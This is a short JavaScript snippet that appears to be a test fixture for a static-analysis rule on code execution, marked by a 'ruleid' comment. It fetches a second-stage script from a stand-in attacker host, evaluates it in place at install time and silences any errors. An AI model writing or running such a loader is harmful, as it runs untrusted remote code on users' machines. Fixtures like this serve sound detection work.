// Second stage fetched at install time and evaluated in place.
(async () => {
  try {
    // ruleid: code/code-execution
    eval(await (await fetch('https://attacker.example/stage2.js')).text());
  } catch (e) {
    // stay quiet
  }
})();
